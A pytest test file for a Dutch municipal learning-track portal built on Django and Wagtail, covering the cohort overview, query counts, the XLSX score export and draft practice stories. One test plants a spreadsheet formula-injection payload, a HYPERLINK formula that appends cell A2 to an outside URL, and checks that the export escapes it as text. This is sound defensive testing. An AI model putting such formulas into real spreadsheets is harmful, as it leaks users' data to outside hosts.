"""The coordinator's overview, the XLSX export, the query counts and the
practice story in the kennisportal."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import GroupPagePermission

from knowledge.models import PublicationPage
from knowledge.services.review import review_workflow_setup
from leergang.models import PracticeStory, Reflection, ScanMoment
from leergang.selectors.scans import cohort_overview
from tests.knowledge.conftest import home, kennisbank  # noqa: F401 - fixtures
from tests.leergang.factories import (
    SessionFactory,
    accepted,
    cohort,
    coordinator,
    make_scan,
    member_of,
)

pytestmark = pytest.mark.django_db


def _fill(apps, *, session=None):
    for n, app in enumerate(apps):
        make_scan(app, score=lambda b, v, n=n: (b + v + n) % 5 + 1)
        make_scan(app, moment=ScanMoment.END, score=5, submitted=n % 2 == 0)
        if session is not None:
            Reflection.objects.create(
                application=app, session=session, first_order="Geleerd."
            )


def test_overview_has_every_municipality_with_scans_averages_and_reflections():
    apps = cohort(size=3)
    session = SessionFactory(edition=apps[0].edition)
    _fill(apps, session=session)

    rows = cohort_overview(edition=apps[0].edition)
    assert [r.application for r in rows] == sorted(
        apps, key=lambda a: a.municipality.name
    )
    first = next(r for r in rows if r.application == apps[0])
    assert set(first.scans) == {"start", "end"}
    # Bouwopgave 1, n=0: scores (1+v) % 5 + 1 for v=1..4 -> 3, 4, 5, 1.
    assert first.averages["start"][1] == 3.25
    assert first.averages["end"][1] == 5.0
    assert first.reflection_count == 1


@pytest.mark.parametrize("size", [2, 8])
def test_overview_and_edition_page_queries_do_not_grow(
    client, django_assert_max_num_queries, size
):
    apps = cohort(size=size)
    edition = apps[0].edition
    session = SessionFactory(edition=edition)
    for _ in range(3):
        SessionFactory(edition=edition)
    _fill(apps, session=session)
    client.force_login(coordinator())
    with django_assert_max_num_queries(14):
        response = client.get(reverse("leergang:cohort_overview", args=[edition.slug]))
    assert response.status_code == 200
    with django_assert_max_num_queries(14):
        assert (
            client.get(reverse("leergang:cohort_home", args=[edition.slug])).status_code
            == 200
        )
    client.force_login(member_of(apps[0]))
    with django_assert_max_num_queries(14):
        assert (
            client.get(reverse("leergang:cohort_home", args=[edition.slug])).status_code
            == 200
        )


def test_the_export_loads_back_with_one_row_per_score_and_the_averages(client):
    apps = cohort(size=3)
    _fill(apps)
    client.force_login(coordinator())
    response = client.get(
        reverse("leergang:cohort_export", args=[apps[0].edition.slug])
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(BytesIO(response.content))
    assert workbook.sheetnames == ["Scores", "Gemiddelden"]
    scores = list(workbook["Scores"].iter_rows(values_only=True))
    assert scores[0][0] == "Gemeente"
    assert len(scores) == 1 + 3 * 2 * 20
    first = scores[1]
    name = min(a.municipality.name for a in apps)
    assert first[:4] == (name, "Start", "ingediend", 1)
    assert first[5] == 1
    averages = list(workbook["Gemiddelden"].iter_rows(values_only=True))
    assert len(averages) == 1 + 3 * 2 * 5
    assert {row[1] for row in averages[1:]} == {"Start", "Einde"}
    assert averages[0][2] == "Status"
    assert {row[2] for row in averages[1:]} == {"ingediend", "concept"}


def test_text_that_looks_like_a_formula_is_exported_as_text(client):
    application = accepted()
    make_scan(application, score=3)
    application.scans.get().scores.filter(bouwopgave=1, venster=1).update(
        explanation='=HYPERLINK("https://example.org/?x="&A2,"klik")'
    )
    client.force_login(coordinator())
    response = client.get(
        reverse("leergang:cohort_export", args=[application.edition.slug])
    )

    sheet = load_workbook(BytesIO(response.content))["Scores"]
    cell = sheet.cell(row=2, column=9)
    assert cell.data_type == "s"
    assert cell.value == '\'=HYPERLINK("https://example.org/?x="&A2,"klik")'


def test_the_averages_sheet_says_which_scans_are_drafts(client):
    application = accepted()
    make_scan(application, score=2, submitted=False)
    client.force_login(coordinator())
    response = client.get(
        reverse("leergang:cohort_export", args=[application.edition.slug])
    )

    averages = list(
        load_workbook(BytesIO(response.content))["Gemiddelden"].iter_rows(
            values_only=True
        )
    )
    assert {row[2] for row in averages[1:]} == {"concept"}


@pytest.fixture
def reviewed_kennisbank(request):
    """The kennisbank with its partner review, as the portal sets it up."""
    index = request.getfixturevalue("kennisbank")
    review_workflow_setup(index=index)
    return index


def test_the_practice_story_is_a_draft_made_once(client, reviewed_kennisbank):
    apps = cohort(size=1)
    app = apps[0]
    session = SessionFactory(edition=app.edition, title="Kick-off")
    _fill(apps, session=session)
    client.force_login(coordinator())
    url = reverse(
        "leergang:cohort_story",
        kwargs={
            "edition_slug": app.edition.slug,
            "municipality_slug": app.municipality.slug,
        },
    )

    response = client.post(url)
    page = PublicationPage.objects.get()
    assert response.url == reverse("wagtailadmin_pages:edit", args=[page.pk])
    # The coordinator, its owner, can open the draft in the back office.
    assert client.get(response.url).status_code == 200
    assert not page.live
    assert page.get_parent().specific == reviewed_kennisbank
    assert page.item_type == "praktijkverhaal"
    assert app.municipality.name in page.title
    draft = page.get_latest_revision_as_object()
    body = str(draft.body)
    assert "Kick-off" in body
    assert "Geleerd." in body
    assert "zelfscan" in body
    assert sorted(b.number for b in draft.bouwopgaven.all()) == [1, 2]

    again = client.post(url)
    assert again.url == response.url
    assert PublicationPage.objects.count() == 1
    assert PracticeStory.objects.get().page_id == page.pk


def test_a_coordinator_who_may_not_edit_the_kennisbank_hears_where_the_story_is(
    client, reviewed_kennisbank
):
    GroupPagePermission.objects.filter(page=reviewed_kennisbank).delete()
    app = cohort(size=1)[0]
    client.force_login(coordinator())
    url = reverse(
        "leergang:cohort_story",
        kwargs={
            "edition_slug": app.edition.slug,
            "municipality_slug": app.municipality.slug,
        },
    )

    response = client.post(url, follow=True)

    assert response.redirect_chain[-1][0] == reverse(
        "leergang:cohort_overview", args=[app.edition.slug]
    )
    assert "Een redacteur werkt het verder uit" in response.content.decode()
    assert not PublicationPage.objects.get().live
